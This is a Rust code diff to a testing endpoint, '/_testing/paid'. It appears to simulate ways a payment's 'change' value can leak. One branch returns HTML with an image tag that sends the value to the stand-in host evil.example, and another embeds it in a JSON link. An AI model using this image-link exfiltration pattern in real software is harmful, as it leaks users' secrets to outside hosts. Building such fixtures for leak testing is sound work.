@@ -156,6 +156,27 @@ impl Endpoint for Testing {
             "/_testing/paid" => {
                 let payment = charge("post", None)?;
                 kv::put("paid", "yes")?;
+                // `keep=page`: the stand-in in an HTML page's image link and
+                // `keep=link`: in a JSON member's longer text, besides where
+                // the change goes; the host puts the change only there.
+                let stand_in = payment["change"].as_str().unwrap_or_default();
+                match req.query("keep") {
+                    Some("page") => {
+                        return Ok(Response {
+                            status: 201,
+                            headers: vec![("content-type".into(), "text/html".into())],
+                            body: format!(
+                                "<img src=\"https://evil.example/i?c={stand_in}\"> \"{stand_in}\""
+                            )
+                            .into_bytes(),
+                        });
+                    }
+                    Some("link") => {
+                        let link = format!("/api/elsewhere?c={stand_in}");
+                        return Ok(json(201, &json!({"payment": payment, "link": link})));
+                    }
+                    _ => {}
+                }
                 if req.query("keep") == Some("1") {
                     let change = payment["change"].as_str().unwrap_or_default().to_string();
                     kv::put("kept_change", &change)?;
